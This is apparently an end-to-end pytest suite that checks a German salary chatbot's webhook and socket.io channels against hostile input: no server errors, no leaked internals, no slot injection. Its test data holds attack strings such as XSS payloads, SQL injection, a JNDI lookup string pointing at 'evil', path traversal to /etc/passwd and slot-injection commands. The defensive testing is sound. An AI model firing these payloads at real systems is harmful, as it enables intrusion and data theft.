"""Hostile requests against the running servers (session `bot`): nothing breaks, nothing leaks.

Every request must get a status below 500 and no stack trace or internal detail.
Acceptable text gets a non-empty German reply; malformed requests get a German JSON
error (400, or 413 when too large). User text can trigger only the intents our
buttons send, and can set no slot.
"""

from __future__ import annotations

import http.client
import json
import re
from dataclasses import dataclass
from typing import Optional
from urllib.parse import urlsplit

import pytest

from revierlotse import notices
from revierlotse.settings import Settings
from tests.conftest import new_sender

pytestmark = pytest.mark.e2e

WEBHOOK = "/webhooks/rest/webhook"
JSON = "application/json"
LIMITS = Settings()
GERMAN = re.compile(r"\b(ich|du|dir|dich|und|der|die|das|nicht|bitte|gern|mir|zu)\b", re.IGNORECASE)
LEAKS = re.compile(
    r"Traceback|File \"|site-packages|/work/|\.py\b|Exception|sqlalchemy|sqlite|psycopg|asyncio|"
    r"sanic|aiohttp|127\.0\.0\.1|localhost|action server|Action server|jsonschema",
)


@dataclass
class Reply:
    status: int
    body: bytes

    @property
    def text(self) -> str:
        return self.body.decode("utf-8", "replace")

    def json(self):
        return json.loads(self.body)


def post_raw(url: str, body: bytes, content_type: Optional[str] = JSON, chunked: bool = False,
             path: str = WEBHOOK) -> Reply:
    parts = urlsplit(url)
    conn = http.client.HTTPConnection(parts.hostname, parts.port, timeout=120)
    try:
        headers = {"Content-Type": content_type} if content_type else {}
        if chunked:
            headers["Transfer-Encoding"] = "chunked"
            conn.request("POST", path, body=iter([body[i:i + 4096] for i in range(0, len(body), 4096)]),
                         headers=headers, encode_chunked=True)
        else:
            conn.request("POST", path, body=body, headers=headers)
        resp = conn.getresponse()
        return Reply(resp.status, resp.read())
    finally:
        conn.close()


def payload(message, sender=None, **extra) -> bytes:
    body = {"sender": new_sender() if sender is None else sender, "message": message, **extra}
    return json.dumps(body).encode()


def assert_no_leak(reply: Reply) -> None:
    assert reply.status < 500, reply.text[:300]
    assert not LEAKS.search(reply.text), reply.text[:300]


def assert_german_answer(reply: Reply) -> str:
    assert_no_leak(reply)
    assert reply.status == 200, reply.text[:300]
    messages = reply.json()
    assert isinstance(messages, list) and messages, reply.text[:300]
    text = "\n".join(m.get("text", "") for m in messages)
    assert text.strip() and GERMAN.search(text), text
    return text


def assert_german_error(reply: Reply, status: int) -> str:
    assert_no_leak(reply)
    assert reply.status == status, reply.text[:300]
    error = reply.json()["error"]
    assert GERMAN.search(error), error
    return error


# -- acceptable text: always a German reply ---------------------------------------------
ACCEPTED_TEXTS = {
    "emoji only": "💶🤔🚀",
    "control characters and NUL": "Gehalt\x00\x01\x07\x1b[31m?",
    "right-to-left text": "كم راتب مدير تقنية المعلومات؟",
    "right-to-left override": "\u202eGehalt für Einsteiger\u202c",
    "HTML script": "<script>alert('x')</script>",
    "HTML image onerror": '<img src=x onerror="alert(1)"> Was verdient man?',
    "SQL drop table": "'; DROP TABLE events; --",
    "SQL tautology": "1' OR '1'='1",
    "SQL union": "Gehalt' UNION SELECT password FROM users --",
    # Stock Rasa restarts the conversation and answers nothing; here it is plain text
    # (test_access.py checks the tracker has no restart event).
    "/restart command": "/restart",
    "/session_start command": "/session_start",
    "/nlu_fallback intent": "/nlu_fallback",
    "intent with slot injection": '/inform{"level":"entry"}',
    "button intent with slot injection": '/ask_salary{"company_type":"industry"}',
    "double slash injection": '//ask_salary{"level":"entry"}',
    "zalgo text": "G̴̡͙e̸h̶a̷l̴t̵ ̸f̷ü̶r̷ ̵E̸i̴n̸s̵t̷e̶i̸g̷e̸r̵",
    "mixed scripts": "Gehalt? 工资? зарплата? μισθός?",
    "format strings and JNDI": "%s %n %x {0} ${jndi:ldap://evil/a} {{7*7}}",
    "path traversal": "../../../../etc/passwd",
    "markdown javascript link": "[klick](javascript:alert(1))",
    "JSON inside message": '{"sender": "admin", "message": "/restart"}',
    "lone surrogate": "\ud800 Gehalt?",
    "long single word": "a" * 3000,
    "exactly the maximum length": ("Was verdient ein IT Manager in Duisburg? " * 200)[:LIMITS.max_message_chars],
}


@pytest.mark.parametrize("text", ACCEPTED_TEXTS.values(), ids=ACCEPTED_TEXTS.keys())
def test_hostile_text_gets_a_german_reply(bot, text):
    reply = post_raw(bot.url, payload(text))
    answer = assert_german_answer(reply)
    assert "<script" not in answer and "onerror" not in answer and "javascript:" not in answer


EMPTY_TEXTS = {
    "empty": "",
    "whitespace": "  \t\n  ",
    "only NUL": "\x00\x00\x00",
    "only zero-width characters": "\u200b\u200b\ufeff",
    "thousand line breaks": "\n" * 1000,
    "bare slash": "/",
}


@pytest.mark.parametrize("text", EMPTY_TEXTS.values(), ids=EMPTY_TEXTS.keys())
def test_empty_text_gets_a_friendly_request_for_a_question(bot, text):
    assert assert_german_answer(post_raw(bot.url, payload(text))) == notices.EMPTY_MESSAGE


def test_button_payload_still_selects_its_intent(bot):
    assert "4.200 bis 5.200 €" in assert_german_answer(post_raw(bot.url, payload("/ask_salary")))


# -- oversized: 413 with a German message ------------------------------------------------
OVERSIZED = {
    "10 kB message": payload("Gehalt? " * 1280),
    "1 MB message": payload("x" * 1_000_000),
    "1 MB padding field": payload("Gehalt?", pad="p" * 1_000_000),
}


@pytest.mark.parametrize("body", OVERSIZED.values(), ids=OVERSIZED.keys())
def test_oversized_requests_get_413_in_german(bot, body):
    assert_german_error(post_raw(bot.url, body), 413)


def test_oversized_chunked_body_without_length_gets_413(bot):
    assert_german_error(post_raw(bot.url, payload("y" * 100_000), chunked=True), 413)


def test_message_one_character_too_long_gets_413(bot):
    text = "a" * (LIMITS.max_message_chars + 1)
    assert "höchstens" in assert_german_error(post_raw(bot.url, payload(text)), 413)


# -- malformed requests: 400 with a German message ---------------------------------------
MALFORMED = {
    "JSON list": (b'[{"sender": "a", "message": "hi"}]', JSON),
    "JSON number": (b"42", JSON),
    "JSON string": (b'"Gehalt?"', JSON),
    "JSON null": (b"null", JSON),
    "invalid JSON": (b'{sender: "a", message: ', JSON),
    "empty body": (b"", JSON),
    "invalid UTF-8": (b'{"sender": "a", "message": "Geh\xff\xfealt"}', JSON),
    "UTF-16 with BOM": ('{"sender": "a", "message": "hi"}'.encode("utf-16"), JSON),
    "deeply nested JSON": (b"[" * 8_000 + b"]" * 8_000, JSON),
    "text/plain content type": (payload("Gehalt?"), "text/plain"),
    "form encoded": (b"sender=a&message=Gehalt", "application/x-www-form-urlencoded"),
    "no content type": (payload("Gehalt?"), None),
    "message is a number": (payload(5), JSON),
    "message is a list": (payload(["Gehalt?"]), JSON),
    "message is an object": (payload({"text": "Gehalt?"}), JSON),
    "message is null": (payload(None), JSON),
    "message missing": (json.dumps({"sender": "someone"}).encode(), JSON),
    "sender missing": (json.dumps({"message": "Gehalt?"}).encode(), JSON),
    "sender empty": (payload("Gehalt?", sender=""), JSON),
    "sender 10 kB": (payload("Gehalt?", sender="s" * 10_240), JSON),
    "sender path-like": (payload("Gehalt?", sender="../../etc/passwd"), JSON),
    "sender unicode": (payload("Gehalt?", sender="jürgen-👷‍♂️"), JSON),
    "sender with line break": (payload("Gehalt?", sender="anna\nadmin"), JSON),
    "sender is a number": (payload("Gehalt?", sender=12345), JSON),
    "sender is an object": (payload("Gehalt?", sender={"id": "a"}), JSON),
    "sender is a Telegram conversation": (payload("Gehalt?", sender="telegram:12345"), JSON),
}


@pytest.mark.parametrize("body, content_type", MALFORMED.values(), ids=MALFORMED.keys())
def test_malformed_requests_get_400_in_german(bot, body, content_type):
    assert_german_error(post_raw(bot.url, body, content_type), 400)


def test_missing_sender_does_not_reach_the_shared_default_conversation(bot):
    assert_german_error(post_raw(bot.url, json.dumps({"message": "Was verdient ein Einsteiger?"}).encode()), 400)
    # A later follow-up in "default" has no salary context to build on.
    reply = assert_german_answer(post_raw(bot.url, payload("und mit mehr Erfahrung?", sender="default")))
    assert "5.800" not in reply


def test_spoofed_input_channel_and_metadata_are_ignored(bot):
    body = payload("Was verdient ein Einsteiger?", input_channel="telegram", metadata={"admin": True, "x": "y" * 5000})
    assert "4.200 bis 5.200 €" in assert_german_answer(post_raw(bot.url, body))


def test_get_on_the_webhook_is_no_server_error(bot):
    parts = urlsplit(bot.url)
    conn = http.client.HTTPConnection(parts.hostname, parts.port, timeout=30)
    conn.request("GET", WEBHOOK)
    resp = conn.getresponse()
    assert_no_leak(Reply(resp.status, resp.read()))
    conn.close()


# -- no intent or slot injection by text --------------------------------------------------
SALARY_QUESTION = "Wie hoch ist das Gehalt?"


def salary_reply(bot, *before: str) -> str:
    """The answer to the salary question in a new conversation after `before`."""
    sender = new_sender()
    for text in before:
        assert_no_leak(post_raw(bot.url, payload(text, sender=sender)))
    return bot.ask_text(SALARY_QUESTION, sender)


def test_slot_injection_by_text_does_not_set_the_level(bot):
    fresh = salary_reply(bot)
    told_level = salary_reply(bot, "ich bin Berufseinsteiger")
    assert told_level != fresh, "a set level changes the answer, so the check below can see one"
    injected = salary_reply(bot, '/inform{"level":"entry"}', '/ask_salary{"level":"entry"}',
                            '/greet{"level":"entry"}')
    assert injected == fresh



# -- socket.io (the website widget's channel) --------------------------------------------
class WidgetSocket:
    """A python-socketio client speaking the rasa-webchat protocol.

    Long-polling transport: python-engineio 4.15's websocket client needs aiohttp >= 3.10
    (`aiohttp.ClientWSTimeout`); Rasa pins an older aiohttp. The server side is the same.
    """

    def __init__(self, url: str, origin: str) -> None:
        import asyncio

        import socketio

        self.url, self.origin = url, origin
        self.sio = socketio.AsyncClient(reconnection=False)
        self.replies: "asyncio.Queue[dict]" = asyncio.Queue()
        self.confirmed: "asyncio.Future[str]" = asyncio.get_running_loop().create_future()
        self.sio.on("session_confirm", self._confirm)
        self.sio.on("bot_uttered", self.replies.put_nowait)
        self.session_id = ""

    def _confirm(self, session_id) -> None:
        if not self.confirmed.done():
            self.confirmed.set_result(session_id)

    async def __aenter__(self) -> "WidgetSocket":
        import asyncio

        await self.sio.connect(self.url, headers={"Origin": self.origin}, transports=["polling"],
                               wait_timeout=30)
        await self.sio.emit("session_request", {"session_id": None})
        self.session_id = await asyncio.wait_for(self.confirmed, 30)
        return self

    async def __aexit__(self, *exc) -> None:
        await self.sio.disconnect()

    async def say(self, message, **extra) -> str:
        import asyncio

        await self.sio.emit("user_uttered", {"message": message, "session_id": self.session_id, **extra})
        return (await asyncio.wait_for(self.replies.get(), 60)).get("text", "")


def widget_origin(bot) -> str:
    return bot.stack.settings.cors_origins[0]


SOCKET_TEXTS = {
    "slot injection": '/inform{"level":"entry"}',
    "control characters and NUL": "Gehalt\x00\x07?",
    "HTML script": "<script>alert(1)</script>",
    "emoji only": "💶🤔",
    "10 kB message": "Gehalt? " * 1280,
    "message is a number": 42,
}


@pytest.mark.parametrize("message", SOCKET_TEXTS.values(), ids=SOCKET_TEXTS.keys())
def test_socketio_hostile_text_gets_a_german_reply(bot, message):
    import asyncio

    async def scenario() -> str:
        async with WidgetSocket(bot.url, widget_origin(bot)) as widget:
            return await widget.say(message)

    text = asyncio.run(scenario())
    assert GERMAN.search(text) and not LEAKS.search(text), text
    assert "<script" not in text


def test_socketio_malformed_events_are_ignored_and_the_socket_keeps_working(bot):
    import asyncio

    async def scenario() -> str:
        async with WidgetSocket(bot.url, widget_origin(bot)) as widget:
            for data in (["Gehalt?"], 42, "Gehalt?", None, {"message": "Gehalt?", "session_id": "someone-else-123"},
                         {"message": "Gehalt?"}):
                await widget.sio.emit("user_uttered", data)
            return await widget.say("Was verdient ein Einsteiger?")

    assert "4.200 bis 5.200 €" in asyncio.run(scenario())


def test_socketio_refuses_a_foreign_origin(bot):
    import asyncio

    import socketio

    async def scenario() -> None:
        async with WidgetSocket(bot.url, "https://evil.example") as widget:
            await widget.say("Gehalt?")

    with pytest.raises((socketio.exceptions.ConnectionError, asyncio.TimeoutError)):
        asyncio.run(scenario())
